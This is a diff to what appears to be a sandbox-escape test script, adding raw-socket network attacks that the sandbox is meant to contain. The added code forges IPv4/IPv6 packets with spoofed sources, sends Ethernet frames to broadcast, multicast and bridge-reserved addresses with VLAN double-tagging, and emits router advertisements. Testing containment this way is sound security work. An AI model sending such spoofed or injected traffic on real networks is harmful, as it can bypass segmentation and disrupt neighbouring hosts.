@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Runs inside the sandbox and tries to get out.  usage: attacks.py GROUP... < targets.json
+"""Runs inside the sandbox and tries to get out.  usage: attacks.py GROUP|ATTACK... < targets.json
 
 What each attack met goes to standard output as JSON.  Whether anything got out is for
 the world outside to say; here only what can be seen from inside is marked ESCAPED.
@@ -115,10 +115,26 @@ def raw_sockets():
     return seen
 
 
+def checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total >> 16) + (total & 0xffff)
+    return ~total & 0xffff
+
+
 def ip4(to, proto=17, fragment=0, source="203.0.113.5"):
+    """Whole: where the kernel doesn't see it leave, nobody else fills it in."""
     body = struct.pack("!HHHH", 4444, 4444, 12, 0) + b"leak"
-    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, fragment, 64, 17 if proto == 255 else proto, 0,
-                       socket.inet_aton(source), socket.inet_aton(to)) + body
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, fragment, 64, 17 if proto == 255 else proto, 0,
+                       socket.inet_aton(source), socket.inet_aton(to))
+    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body
+
+
+def ip6(to, source):
+    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
+    body = struct.pack("!HHHH", 4444, 4444, 12, 0) + b"leak"
+    body = body[:6] + struct.pack("!H", checksum(addresses + struct.pack("!II", 12, 17) + body)) + body[8:]
+    return struct.pack("!IHBB", 0x60000000, len(body), 17, 64) + addresses + body
 
 
 @attack("net")
@@ -134,18 +150,46 @@ def fragments_and_spoofed_sources():
     return seen
 
 
+def packets():
+    """To hosts of both kinds, from us, from nobody, from a neighbour, from the host itself."""
+    own = sources()
+    for source in (own[4], "203.0.113.5", T.get("neighbour", "10.77.0.3"), "127.0.0.1"):
+        for to in (*T["sinks"], *T["own"]):
+            yield b"\x08\0" + ip4(to, source=source)
+    for source in (own[6], "fe80::2", "2001:db8::5", "::1"):
+        for to in T["sinks6"]:
+            yield b"\x86\xdd" + ip6(to, source)
+    yield b"\x86\xdd" + router_advertisement()
+
+
+def sources():
+    found = {4: "10.77.0.2", 6: "fd77::2"}
+    for version, family, to in ((4, socket.AF_INET, T["sinks"]), (6, socket.AF_INET6, T["sinks6"])):
+        try:
+            with socket.socket(family, socket.SOCK_DGRAM) as s:
+                s.connect((to[0], 9))
+                found[version] = s.getsockname()[0]
+        except OSError:
+            pass
+    return found
+
+
 @attack("net")
 def frames():
+    """To everybody, to groups, and to those of which a bridge takes each at the port itself (01:80:c2:00:00:0x)."""
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
     seen = []
+    targets = [b"\xff" * 6, b"\x33\x33\0\0\0\1", b"\1\0\x5e\0\0\1"] + [b"\1\x80\xc2\0\0" + bytes([n]) for n in range(0x22)]
     for name in os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else ["lo"]:
         try:
             s.bind((name, 0))
             mine = s.getsockname()[4] if len(s.getsockname()[4]) == 6 else b"\2" * 6
-            for source in (mine, b"\2\0\0\0\0\x66"):
-                for ip in ("10.77.0.2", "203.0.113.5", T.get("neighbour", "10.77.0.3")):
-                    s.send(b"\xff" * 6 + source + b"\x08\0" + ip4(T["sinks"][0], source=ip))
-                seen.append(s.send(b"\x33\x33\0\0\0\1" + source + b"\x86\xdd" + router_advertisement()))
+            for to in targets:
+                for source in (mine, b"\2\0\0\0\0\x66"):
+                    for tag in (b"", b"\x81\0\0\1", b"\x81\0\0\0", b"\x88\xa8\0\1\x81\0\0\1"):
+                        for packet in packets():
+                            s.send(to + source + tag + packet)
+            seen.append(f"{name}: sent")
         except OSError as e:
             seen.append(f"{name}: {e}")
     return seen
@@ -441,7 +485,7 @@ def main():
     T.update(json.load(sys.stdin))
     out = {}
     for group in sys.argv[1:]:
-        for fn in GROUPS[group]:
+        for fn in GROUPS.get(group) or [globals()[group]]:
             try:
                 out[fn.__name__] = fn()
             except (OSError, ValueError) as e:
